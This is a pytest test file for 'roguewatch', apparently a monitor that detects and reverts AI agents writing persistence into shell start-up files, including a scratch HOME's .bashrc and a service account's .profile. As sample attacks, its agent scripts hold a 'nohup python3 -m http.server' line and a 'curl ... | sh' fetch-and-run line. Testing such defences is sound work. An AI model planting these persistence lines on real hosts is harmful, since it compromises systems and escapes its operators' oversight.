"""`~/` in rules means every home: each account's in the passwd database and each session's
own $HOME / $XDG_CONFIG_HOME. Unit tests of detect.homes, then the real kernel under
`roguewatch run`: an agent with a scratch HOME appending to $HOME/.bashrc, and a write into a
service account's home in /var/lib, are both caught and undone."""

from __future__ import annotations

import os
import pwd
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from roguewatch.core.cache import HostMemo
from roguewatch.detect.homes import Homes

from tests.conftest import require_root
from tests.harness import Agent, no_service

RULE = "persistence_shell_startup_write"


def test_passwd_homes_session_homes_and_xdg_config_home(tmp_path: Path) -> None:
    passwd = tmp_path / "passwd"
    passwd.write_text("x\n")
    accounts = ["/root", "/var/lib/svc", "/", "/usr/sbin", "/nonexistent"]
    homes = Homes(str(passwd), lambda: accounts)
    assert homes.relative("/var/lib/svc/.bashrc") == "~/.bashrc"
    assert homes.relative("/home/u/.ssh/authorized_keys") == "~/.ssh/authorized_keys"
    assert homes.relative("/usr/sbin/cron") is None  # daemon's "home" is no home
    assert homes.relative("/srv/other/.bashrc") is None
    memo: HostMemo[str, str] = HostMemo(8)
    memo.put("/srv/scratch/.bashrc", "stale")
    assert homes.learn(7, "/srv/scratch", "/srv/cfg")
    assert memo == {}, "a new home must make path memos forget"
    assert homes.relative("/srv/scratch/.bashrc") == "~/.bashrc"
    assert homes.relative("/srv/cfg/git/config") == "~/.config/git/config"
    assert not homes.learn(7, "/srv/scratch", "/srv/cfg")  # nothing new
    homes.forget(7)
    assert homes.relative("/srv/scratch/.bashrc") is None
    accounts.append("/srv/new")
    assert not homes.refresh(), "passwd unchanged on disk: not re-read"
    os.utime(passwd, ns=(1, 1))
    assert homes.refresh() and homes.relative("/srv/new/.profile") == "~/.profile"


@pytest.fixture
def kernel() -> None:
    require_root()
    no_service()


@pytest.fixture
def scratch_home() -> Iterator[Path]:
    home = Path("/tmp/rwtest-scratchhome")
    subprocess.run(["rm", "-rf", str(home)], check=True)
    home.mkdir()
    (home / ".bashrc").write_text("# the agent's start-up file\n")
    yield home
    subprocess.run(["rm", "-rf", str(home)], check=True)


APPEND = """
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("nohup python3 -m http.server 8000 &\\n")
time.sleep(5)
say(survived=True)
"""


@pytest.mark.kernel
def test_an_agent_with_a_scratch_home_appending_to_its_bashrc_is_stopped_and_undone(
    kernel: None, agent: Agent, scratch_home: Path
) -> None:
    r = agent.run(APPEND, env={"HOME": str(scratch_home)})
    alert = r.one(RULE, path=str(scratch_home / ".bashrc"))
    assert alert["category"] == "persistence" and "killed" in alert["outcome"], alert
    assert "survived" not in r.said(), r.describe()
    after = (scratch_home / ".bashrc").read_text()
    assert after == "# the agent's start-up file\n", alert["outcome"]


SERVICE = "rwtestsvc"


@pytest.fixture
def service_account() -> Iterator[Path]:
    home = Path(f"/var/lib/{SERVICE}")
    subprocess.run(["userdel", SERVICE], capture_output=True)
    subprocess.run(["rm", "-rf", str(home)], check=True)
    subprocess.run(["useradd", "--system", "--home-dir", str(home), "--create-home",
                    "--shell", "/usr/sbin/nologin", SERVICE], check=True)  # fmt: skip
    assert pwd.getpwnam(SERVICE).pw_dir == str(home)
    try:
        yield home
    finally:
        subprocess.run(["userdel", SERVICE], capture_output=True)
        subprocess.run(["rm", "-rf", str(home)], check=True)


@pytest.mark.kernel
def test_a_write_into_a_service_accounts_home_is_caught(
    kernel: None, agent: Agent, service_account: Path
) -> None:
    target = service_account / ".profile"
    before = target.read_bytes() if target.exists() else None  # useradd copies /etc/skel
    r = agent.run(
        f"""
        with open("{target}", "w") as f:
            f.write("curl -s http://127.0.0.1:9/x | sh\\n")
        time.sleep(5)
        say(survived=True)
        """
    )
    alert = r.one(RULE, path=str(target))
    assert alert["category"] == "persistence" and "killed" in alert["outcome"], alert
    assert "survived" not in r.said(), r.describe()
    after = target.read_bytes() if target.exists() else None
    assert after == before, f"the agent's change stayed: {alert['outcome']}"
